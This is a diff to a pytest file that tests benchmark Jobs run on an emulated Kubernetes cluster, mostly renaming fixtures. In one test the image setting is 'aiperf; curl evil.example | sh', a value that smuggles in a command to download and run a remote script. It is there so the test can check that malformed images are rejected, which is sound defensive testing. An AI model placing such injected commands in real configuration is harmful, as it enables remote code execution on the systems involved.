@@ -27,9 +27,9 @@ from deployments.experiments.benchmark import services as benchmarks
 from deployments.experiments.models import Benchmark, BenchmarkStatus
 from tests.conftest import Cast
 from tests.drivers.kube_emulator import RunningEmulator
-from tests.endpoints.conftest import NS, emulator, endpoint  # noqa: F401  (fixtures)
 from tests.experiments.benchmark.test_profile import EXPORT
 from tests.experiments.canary.helpers import mark_serving
+from tests.fixtures.endpoints import NS
 from tests.waiting import wait_until
 
 pytestmark = pytest.mark.django_db(transaction=True)
@@ -49,7 +49,7 @@ def _run_in_background(benchmark_id: str) -> threading.Thread:
     return thread
 
 
-def _start_pod(emulator: RunningEmulator, job: dict[str, Any], lines: list[str]) -> None:  # noqa: F811
+def _start_pod(emulator: RunningEmulator, job: dict[str, Any], lines: list[str]) -> None:
     labels = job["spec"]["template"]["metadata"]["labels"]
     pod_name = f"{job['metadata']['name']}-x7k2p"
     pod = {
@@ -73,9 +73,9 @@ def _queue(cast: Cast, deployment: Deployment) -> tuple[Benchmark, str]:
 
 
 def _applied_job(
-    emulator: RunningEmulator,  # noqa: F811
+    emulator: RunningEmulator,
     cast: Cast,
-    endpoint: Deployment,  # noqa: F811
+    endpoint: Deployment,
 ) -> dict[str, Any]:
     """Run a benchmark as far as its Job, end the Job as failed; the Job as it was applied."""
     benchmark, name = _queue(cast, endpoint)
@@ -90,10 +90,10 @@ def _applied_job(
 
 def test_the_sweep_runs_as_a_job_and_its_log_carries_the_results(
     cast: Cast,
-    emulator: RunningEmulator,  # noqa: F811
-    endpoint: Deployment,  # noqa: F811
+    emulator: RunningEmulator,
+    kube_endpoint: Deployment,
 ) -> None:
-    benchmark, name = _queue(cast, endpoint)
+    benchmark, name = _queue(cast, kube_endpoint)
     thread = _run_in_background(str(benchmark.pk))
     wait_until(lambda: emulator.get("batch/v1", "Job", NS, name) is not None, "the Job applied")
     secret = emulator.get("v1", "Secret", NS, name)
@@ -119,10 +119,10 @@ def test_the_sweep_runs_as_a_job_and_its_log_carries_the_results(
 
 def test_a_failed_job_fails_the_benchmark_and_revokes_its_key(
     cast: Cast,
-    emulator: RunningEmulator,  # noqa: F811
-    endpoint: Deployment,  # noqa: F811
+    emulator: RunningEmulator,
+    kube_endpoint: Deployment,
 ) -> None:
-    benchmark, name = _queue(cast, endpoint)
+    benchmark, name = _queue(cast, kube_endpoint)
     thread = _run_in_background(str(benchmark.pk))
     wait_until(lambda: emulator.get("batch/v1", "Job", NS, name) is not None, "the Job applied")
     job = emulator.get("batch/v1", "Job", NS, name)
@@ -138,12 +138,13 @@ def test_a_failed_job_fails_the_benchmark_and_revokes_its_key(
 
 def test_the_job_runs_aiperf_from_the_clusters_image_else_the_platforms(
     cast: Cast,
-    emulator: RunningEmulator,  # noqa: F811
-    endpoint: Deployment,  # noqa: F811
+    emulator: RunningEmulator,
+    kube_endpoint: Deployment,
     settings: Any,
 ) -> None:
     settings.PLINTH_BENCHMARK_IMAGE = "platform.example/plinth/aiperf:0.13.0"
-    (container,) = _applied_job(emulator, cast, endpoint)["spec"]["template"]["spec"]["containers"]
+    job = _applied_job(emulator, cast, kube_endpoint)
+    (container,) = job["spec"]["template"]["spec"]["containers"]
     assert container["image"] == "platform.example/plinth/aiperf:0.13.0"
     assert "pip" not in container["args"][0]  # the image has AIPerf: nothing to fetch
     # An air-gapped cluster's operator names the mirror, and the secret its registry needs.
@@ -152,21 +153,21 @@ def test_the_job_runs_aiperf_from_the_clusters_image_else_the_platforms(
         "image_pull_secrets": ["mirror-cred"],
     }
     services.update_cluster(
-        cast.actor(cast.alice, cast.acme), endpoint.cluster_id, settings=air_gapped
+        cast.actor(cast.alice, cast.acme), kube_endpoint.cluster_id, settings=air_gapped
     )
-    pod = _applied_job(emulator, cast, endpoint)["spec"]["template"]["spec"]
+    pod = _applied_job(emulator, cast, kube_endpoint)["spec"]["template"]["spec"]
     assert pod["containers"][0]["image"] == "registry.internal/aiperf:0.13.0"
     assert pod["imagePullSecrets"] == [{"name": "mirror-cred"}]
 
 
 def test_a_malformed_platform_image_fails_the_benchmark_naming_the_variable(
     cast: Cast,
-    emulator: RunningEmulator,  # noqa: F811
-    endpoint: Deployment,  # noqa: F811
+    emulator: RunningEmulator,
+    kube_endpoint: Deployment,
     settings: Any,
 ) -> None:
     settings.PLINTH_BENCHMARK_IMAGE = "aiperf; curl evil.example | sh"
-    benchmark, name = _queue(cast, endpoint)
+    benchmark, name = _queue(cast, kube_endpoint)
     thread = _run_in_background(str(benchmark.pk))
 
     def ended_or_applied() -> bool:
